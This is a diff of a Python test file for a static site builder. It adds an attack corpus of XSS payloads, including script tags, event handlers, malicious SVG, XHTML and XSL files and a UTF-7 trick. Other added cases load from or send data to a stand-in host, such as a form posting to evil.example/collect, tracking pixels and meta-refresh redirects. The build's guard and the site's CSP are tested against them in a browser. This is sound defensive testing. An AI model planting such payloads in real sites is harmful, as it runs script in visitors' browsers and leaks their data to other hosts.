@@ -20,20 +20,22 @@ and files copied as they are (.html, .svg).
 from __future__ import annotations
 
 import functools
+import json
 import re
 import subprocess
 import sys
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
 from bs4 import BeautifulSoup
 from playwright.sync_api import Error as PlaywrightError
 
-from clinic_site import guard, pipeline
+from clinic_site import guard, pipeline, published
 from clinic_site.project import Project
 from devtools.project_copy import copy_project
 from devtools.site_build import MKDOCS_ENV
-from tests.harness import PROJECT_ROOT, StaticServer, build_site
+from tests.harness import PROJECT_ROOT, StaticServer, build_in_process, build_site
 from tests.test_security_headers import headers_for, parse_headers_file
 
 DESCRIPTION = "One of the attack corpus pages, which must be refused or come out inert in every output."
@@ -144,7 +146,22 @@ BODY = [
     '<script type="text/x-whatever">alert(1)</script>',
     '<script data-type="application/json">alert(1)</script>',
     "# <img src=x onerror=alert(1)>",
+    # Ids that stand in for the theme's own elements (Material finds its settings by #__config).
+    '<p id="__config">{"base": "https://evil.example/", "features": [], "search": "https://evil.example/x.js"}</p>',
+    'A paragraph.\n{: #__search }',
+    "## __drawer",
+    '<span data-md-component="search-result">x</span>',
+    # Loading from or sending to another host, with no script at all.
+    "![a pixel](https://evil.example/pixel.png)",
+    '<img src="//evil.example/pixel.png" alt="x">',
+    '<a href="https://evil.example/" target="_blank">x</a>',
+    '<img srcset="https://evil.example/a.png 1x" alt="x">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<form action="https://evil.example/collect" method="post"><input name="q"></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
 ]
+
+REMOTE_PICTURE = f"body {BODY.index('![a pixel](https://evil.example/pixel.png)') + 1:03}"
 
 # ---- Front matter and headings, shown by templates rather than by Markdown.
 FRONT = {
@@ -180,11 +197,45 @@ AUTHORS = {
 PERSON = {"name": "Pat Example", "description": "A person", "avatar": "assets/avatar-sample.svg", "url": "people/"}
 
 # ---- Files copied to the site as they are.
-COPIED = {
+COPIED: dict[str, str | bytes] = {
     "docs/attack/raw.html": "<!doctype html><title>x</title><script>alert(1)</script>",
     "docs/attack/handler.html": '<!doctype html><title>x</title><body onload="alert(1)">',
     "docs/assets/attack-script.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "docs/assets/attack-onload.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    # Documents by other names, letter cases and encodings (a browser judges by the served type and bytes).
+    "docs/attack/upper.HTML": "<!doctype html><title>x</title><script>alert(3)</script>",
+    "docs/attack/short.htm": "<!doctype html><title>x</title><script>alert(3)</script>",
+    "docs/attack/page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(3)</script></body></html>',
+    "docs/attack/page.shtml": "<!doctype html><title>x</title><script>alert(3)</script>",
+    "docs/attack/no-extension": "<!doctype html><title>x</title><script>alert(3)</script>",
+    "docs/attack/utf16.html": "<!doctype html><title>x</title><script>alert(3)</script>".encode("utf-16"),
+    "docs/attack/latin1.html": b"<!doctype html><title>caf\xe9</title><script>alert(3)</script>",
+    "docs/attack/charset.html": ('<!doctype html><meta charset="utf-7"><title>x</title>'
+                                 "+ADw-script+AD4-alert(3)+ADw-/script+AD4-"),
+    "docs/assets/attack-upper.SVG": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"/>',
+    "docs/assets/attack.svgz": b"\x1f\x8b\x08\x00not really",
+    # SVG and XML as an XML parser reads them, not as a regular expression does.
+    "docs/assets/attack-prefixed.svg": '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(4)</s:script></s:svg>',
+    "docs/assets/attack-xhtml.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><h:script '
+                                     'xmlns:h="http://www.w3.org/1999/xhtml">alert(4)</h:script></svg>'),
+    "docs/assets/attack-foreign.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9">'
+                                       '<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(4)"/>'
+                                       '</foreignObject></svg>'),
+    "docs/assets/attack-entity.svg": ('<!DOCTYPE svg [<!ENTITY x "alert(4)">]><svg xmlns="http://www.w3.org/2000/svg" '
+                                      'onload="&x;"/>'),
+    "docs/assets/attack-cdata.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[alert(4)]]></script>'
+                                     '</svg>'),
+    "docs/assets/attack-remote.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/a.svg#i"/>'
+                                      '</svg>'),
+    "docs/attack/data.xml": '<root><script xmlns="http://www.w3.org/1999/xhtml">alert(4)</script></root>',
+    "docs/attack/styled.xml": '<?xml-stylesheet type="text/xsl" href="styled.xsl"?><root/>',
+    "docs/attack/styled.xsl": ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
+                               '<xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body>'
+                               '<script>alert(4)</script></body></html></xsl:template></xsl:stylesheet>'),
+    # A host's own settings, and a stylesheet loading from another host.
+    "docs/attack/_redirects": "/*  https://evil.example/  302\n",
+    "docs/attack/remote.css": '@import url("https://evil.example/x.css");\nbody{background:url(//evil.example/p.png)}',
+    "docs/attack/refresh.html": '<!doctype html><title>x</title><meta http-equiv="refresh" content="0;url=https://evil.example/">',
 }
 
 
@@ -195,7 +246,7 @@ def page(meta: str = "", body: str = "Text.", title: str | None = "An attack pag
     return "\n".join(lines + ["---", "", body, ""])
 
 
-def corpus() -> dict[str, tuple[str, str, str]]:
+def corpus() -> dict[str, tuple[str, str | bytes, str]]:
     """Every case as {name: (file, its text, kind)}: kind "body" (refused before on_env), "front"
     (front matter refused as written, before pages are read) or "output" (found in the written
     page; the check renders the pages to find it too)."""
@@ -246,7 +297,10 @@ def make_corpus(target: Path, kinds: set[str]) -> Path:
         authors.write_text(text.replace("\nauthors:\n", "\nauthors:\n" + authors_entries(), 1), encoding="utf-8")
     for path, body, kind in CASES.values():
         if kind in kinds:
-            (project / path).write_text(body, encoding="utf-8")
+            if isinstance(body, bytes):
+                (project / path).write_bytes(body)
+            else:
+                (project / path).write_text(body, encoding="utf-8")
     return project
 
 
@@ -283,6 +337,8 @@ def unguarded(corpus_project) -> Path:
     script = ("import sys\n"
               "from clinic_site import content_rules, guard, pipeline, sanitize\n"
               "guard.unlisted_code = lambda *args: []\n"
+              "guard.OutputGuard.note = lambda *args: None\n"
+              "guard.OutputGuard.refuse = lambda *args: None\n"
               "sanitize.problems_at = lambda *args: []\n"
               "content_rules.shown_text_problems = lambda *args: []\n"
               "pipeline.finish = lambda run, site_dir: sorted(run.problems)\n"
@@ -358,6 +414,45 @@ def test_the_corpus_page_itself_is_accepted(refused):
     assert not named(refused["check"], CASES["control: plain text"][0])
 
 
+def test_the_search_index_shows_no_markup_of_a_case_the_build_lets_through(refused, unguarded):
+    """The site search shows each entry's title, text and tags as HTML: in the unguarded build's
+    index, markup that could run or load (read with the guard's parser) belongs only to cases the
+    guarded build refuses, and the guarded build names at least one case through this channel."""
+    index = json.loads((unguarded / "search/search_index.json").read_text(encoding="utf-8"))
+    by_folder = {built_path(path).removesuffix("index.html"): name for name, (path, _t, _k) in CASES.items()}
+    let_through = set()
+    for doc in index["docs"]:
+        name = by_folder.get(doc["location"].split("#", 1)[0])
+        for field in ("title", "text", "tags"):
+            values = doc.get(field)
+            for value in values if isinstance(values, list) else [values]:
+                if isinstance(value, str) and (_dangerous(value) or published.read_html(value, "example.org").scripts):
+                    if name is None or not is_refused(refused, name):
+                        let_through.add((doc["location"], field, value[:80]))
+    assert let_through == set()
+
+
+@pytest.mark.build
+def test_the_preview_serves_nothing_its_guard_flags(corpus_project, tmp_path):
+    """`clinic serve` shows each problem on the page instead of stopping: a page its guard flags
+    is replaced by its problems and any other flagged file is left out, so every file the preview
+    serves holds only the site's own code, within the allowlist."""
+    site = tmp_path / "preview"
+    run = build_in_process(corpus_project / "mkdocs.yml", site, mode="serve", spelling=False)
+    code = run.output.site_code
+    served = [path for path in site.rglob("*") if path.is_file()]
+    withheld = site / built_path(CASES["copied docs/attack/raw.html"][0])
+    assert "<script" not in withheld.read_text(encoding="utf-8").lower()
+    assert "docs/attack/raw.html" in withheld.read_text(encoding="utf-8"), "the withheld page names its problem"
+    assert not (site / built_path(CASES["copied docs/assets/attack-onload.svg"][0])).exists()
+    for path in served:
+        dest = path.relative_to(site).as_posix()
+        assert published.kind_of(dest) != "refused" or dest == "_headers", dest
+        if published.kind_of(dest) in ("html", "xml"):
+            text = path.read_text(encoding="utf-8")
+            assert guard.unlisted_code(text, dest, code) == [], dest
+
+
 def _dangerous(text: str) -> list[str]:
     """Event handler attributes and script URLs in a page, read with an HTML parser."""
     soup = BeautifulSoup(text, "html.parser")
@@ -371,33 +466,64 @@ def _dangerous(text: str) -> list[str]:
 
 
 def _dialogs(browser, site: Path, rules, paths: list[str]) -> tuple[dict[str, list[str]], list[str]]:
-    """({path: messages of the dialogs that opened}, [pages that did not finish loading, with why])
-    for each page, served with `rules`."""
+    """({path: what ran or reached another host on that page: dialog messages and "request to …"},
+    [pages that did not finish loading, with why]) for each page, served with `rules`."""
     opened: dict[str, list[str]] = {}
     moved: list[str] = []
     with StaticServer(site, headers_for=functools.partial(headers_for, rules), host_404=True) as server:
         context = browser.new_context(base_url=server.url)
-        for path in paths:  # each page in a tab of its own: a page that reloads itself stays there
-            tab = context.new_page()
-            tab.on("dialog", functools.partial(_record_dialog, opened.setdefault(path, [])))
-            try:
-                tab.goto("/" + path, wait_until="load", timeout=10_000)
-                # Give handlers that need the pointer or focus a chance: hover and focus every element.
-                tab.evaluate("""() => { for (const el of document.querySelectorAll('body *')) {
-                    el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
-                    if (el.focus) el.focus(); } }""")
-            except PlaywrightError as error:  # a page that navigates itself away (a redirect page)
-                moved.append(f"{path}: {str(error).splitlines()[0]}")
-            tab.close()
+        # A few pages at a time, each in a tab of its own (a page that reloads itself stays there):
+        # the browser loads them side by side while the test waits on the first.
+        for start in range(0, len(paths), 6):
+            tabs = []
+            for path in paths[start:start + 6]:
+                tab = context.new_page()
+                seen = opened.setdefault(path, [])
+                tab.on("dialog", functools.partial(_record_dialog, seen))
+                tab.on("requestfailed", functools.partial(_record_remote, seen))
+                tab.on("requestfinished", functools.partial(_record_remote, seen))
+                try:
+                    tab.goto("/" + path, wait_until="commit", timeout=10_000)
+                except PlaywrightError as error:
+                    moved.append(f"{path}: {str(error).splitlines()[0]}")
+                tabs.append((path, tab))
+            for path, tab in tabs:
+                try:
+                    tab.wait_for_load_state("load", timeout=10_000)
+                    # Give handlers that need the pointer or focus a chance: hover and focus every element.
+                    tab.evaluate("""() => { for (const el of document.querySelectorAll('body *')) {
+                        el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
+                        if (el.focus) el.focus(); } }""")
+                except PlaywrightError as error:  # a page that navigates itself away (a redirect page)
+                    moved.append(f"{path}: {str(error).splitlines()[0]}")
+                tab.close()
         context.close()
     return {path: messages for path, messages in opened.items() if messages}, moved
 
 
 def _record_dialog(messages: list[str], dialog) -> None:
     messages.append(dialog.message)
-    dialog.dismiss()
+    try:
+        dialog.dismiss()
+    except PlaywrightError:   # the page already navigated away (a redirect case)
+        pass
 
 
+def _record_remote(messages: list[str], request) -> None:
+    """A request the page made to any host but the test server's (the site promises none), unless
+    the CSP blocked it before it left. A navigation (a refresh, a redirect page) is named as such:
+    no CSP can stop one, only the guard."""
+    host = urlsplit(request.url).hostname or ""
+    if not request.url.startswith(("http:", "https:")) or host in ("127.0.0.1", "localhost"):
+        return
+    if "ERR_BLOCKED_BY_CSP" in (request.failure or "") or "csp" in (request.failure or "").lower():
+        return
+    kind = "navigation" if request.is_navigation_request() else "request"
+    messages.append(f"{kind} to {request.url}")
+
+
+# What Playwright says of a file the browser downloads rather than shows (it runs nothing).
+DOWNLOADED = "Download is starting"
 # The pages that may navigate themselves away before they finish loading: the redirect-template cases.
 REDIRECTING = tuple(built_path(path).removesuffix("index.html") for name, (path, _text, _kind) in CASES.items()
                     if "redirect template" in name)
@@ -415,18 +541,35 @@ def _paths(site: Path) -> list[str]:
 def test_no_dialog_opens_under_the_policy(browser, unguarded):
     rules = parse_headers_file((unguarded / "_headers").read_text(encoding="utf-8"))
     opened, moved = _dialogs(browser, unguarded, rules, _paths(unguarded))
-    assert opened == {}, f"script ran under the site's CSP on: {sorted(opened)}"
-    assert all(path.startswith(REDIRECTING) for path in moved), moved
+    # The CSP's promise is that no script runs; what a page loads from or sends to another host is
+    # the guard's (a refresh, an SVG <use>: test_without_headers_… shows none is let through).
+    ran = {path: [item for item in items if not item.startswith(("navigation to ", "request to "))]
+           for path, items in opened.items()}
+    assert {path: items for path, items in ran.items() if items} == {}, f"script ran under the site's CSP on: {ran}"
+    assert all(path.startswith(REDIRECTING) or DOWNLOADED in path for path in moved), moved
+
+
+# Refused cases that the harness must see run or reach another host when served unguarded without
+# headers: if they did not, a let-through case passing would prove nothing.
+CONTROLS = ("title closing the title element", REMOTE_PICTURE, "copied docs/attack/upper.HTML")
 
 
 def test_without_headers_a_dialog_opens_only_on_refused_cases(browser, refused, unguarded):
-    opened, moved = _dialogs(browser, unguarded, [], _paths(unguarded))
-    assert all(path.startswith(REDIRECTING) for path in moved), moved
+    """Served as GitHub Pages serves it (no headers), the unguarded build runs no script and
+    reaches no other host on any page of a case the guarded build lets through. (Refused cases do
+    not need opening: the build publishes nothing of them; the controls show the harness sees it.)"""
     by_path = {built_path(path).removesuffix("index.html"): name for name, (path, _text, _kind) in CASES.items()}
-    # The harness sees script run: without the guard and the CSP, the title case runs.
-    assert built_path(CASES["title closing the title element"][0]).removesuffix("index.html") in opened
+    paths = [path for path in _paths(unguarded) if not is_refused(refused, by_path[path]) or by_path[path] in CONTROLS]
+    opened, moved = _dialogs(browser, unguarded, [], paths)
+    assert all(path.startswith(REDIRECTING) or DOWNLOADED in path for path in moved), moved
+    for control in CONTROLS:
+        assert built_path(CASES[control][0]).removesuffix("index.html") in opened, control
+    assert any(message.startswith(("request to https://evil.example/", "request to http://evil.example/"))
+               for message in
+               opened[built_path(CASES[REMOTE_PICTURE][0]).removesuffix("index.html")]), opened
     let_through = [by_path[path] for path in opened if not is_refused(refused, by_path[path])]
-    assert let_through == [], f"script runs on GitHub Pages for cases the build lets through: {let_through}"
+    assert let_through == [], f"script runs or another host is reached on GitHub Pages for cases the build lets " \
+                              f"through: {let_through}"
 
 
 def test_a_setting_shown_on_pages_is_refused_naming_its_line_in_mkdocs_yml(tmp_path):
